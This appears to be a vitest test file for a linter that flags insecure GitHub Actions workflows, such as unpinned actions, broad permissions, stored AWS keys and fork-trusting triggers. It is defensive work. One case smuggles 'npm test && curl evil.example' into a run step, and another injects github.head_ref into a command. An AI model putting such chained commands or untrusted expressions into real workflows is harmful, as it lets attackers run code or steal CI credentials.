import { globSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { workflowProblems } from './workflow-rules.ts';

const scripts = new Set(['test', 'deploy']);
const pin = 'actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0';
const credentials = 'aws-actions/configure-aws-credentials@a03048d87541d1d9fcf2ecf528a4a65ba9bd7838 # v5.0.0';

const good = `
on: push
permissions: {}
jobs:
  dev:
    timeout-minutes: 5
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: ${pin}
      - uses: ${credentials}
        with:
          role-to-assume: \${{ vars.AWS_DEPLOY_ROLE }}
      - run: npm run deploy -- --env dev --outputs outputs.json
      - run: npm test
`;

test('a workflow that keeps the rules has no problems', () => {
  expect(workflowProblems(good, scripts)).toEqual([]);
});

describe('each rule fails on', () => {
  test.each([
    ['a tag', pin, 'actions/checkout@v5', "job dev: 'actions/checkout@v5' is no pin"],
    ['a shortened commit', pin, 'actions/checkout@08c6903', "job dev: 'actions/checkout@08c6903' is no pin"],
    ['a pin without its version', ' # v5.0.0\n      - uses: aws', '\n      - uses: aws', 'does not say which version'],
    ['rights for every job', 'permissions: {}', 'permissions: write-all', 'permissions: the workflow grants'],
    ['no word on rights', 'permissions: {}\n', '', 'permissions: the workflow grants'],
    [
      'a job without rights of its own',
      /\n {4}permissions:\n.*\n.*write/,
      '',
      'job dev: it declares no permissions, one by one',
    ],
    ['credentials without a token', '\n      id-token: write', '', 'takes AWS credentials without an identity token'],
    [
      'a token for nothing',
      `\n      - uses: ${credentials}`,
      `\n      - uses: ${pin}`,
      'identity token that it does not use',
    ],
    ['a job without a limit', '\n    timeout-minutes: 5', '', 'job dev: it has no timeout-minutes'],
    [
      'a script that there is not',
      'npm run deploy',
      'npm run deplyo',
      "'npm run deplyo', which package.json does not have",
    ],
    ['a command that is no script', 'npm test', 'npx cdktf deploy dev', "it runs 'npx cdktf deploy dev'"],
    ['two commands', 'npm test', 'npm test && curl evil.example', "it runs 'npm test && curl evil.example'"],
    ['an event in a command', 'npm test', 'npm run deploy -- ${{ github.head_ref }}', "it runs 'npm run deploy -- ${{"],
    ['a stored secret', 'vars.AWS', 'secrets.AWS', "'${{ secrets.AWS_DEPLOY_ROLE }}' reads a stored secret"],
    ['a stored key', 'role-to-assume', 'aws-secret-access-key', "'aws-secret-access-key' takes a stored key"],
    ['secrets that are handed on', 'on: push', 'secrets: inherit\non: push', "'secrets' are handed on"],
    ['a trigger that trusts forks', 'on: push', 'on: pull_request_target', "runs on 'pull_request_target'"],
    ['what is no YAML', 'on: push', 'on: [push', 'Flow sequence'],
  ])('%s', (_what, from, to, message) => {
    const changed = good.replace(from, () => to);
    expect(changed).not.toBe(good);
    const problems = workflowProblems(changed, scripts);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain(message);
  });
});

test("the project's own keep them", () => {
  const { scripts: own } = JSON.parse(readFileSync('package.json', 'utf8')) as { scripts: object };
  const files = globSync('.github/workflows/*.yml');
  expect(files.length).toBeGreaterThan(1);
  for (const file of files) {
    expect(workflowProblems(readFileSync(file, 'utf8'), new Set(Object.keys(own)))).toEqual([]);
  }
});
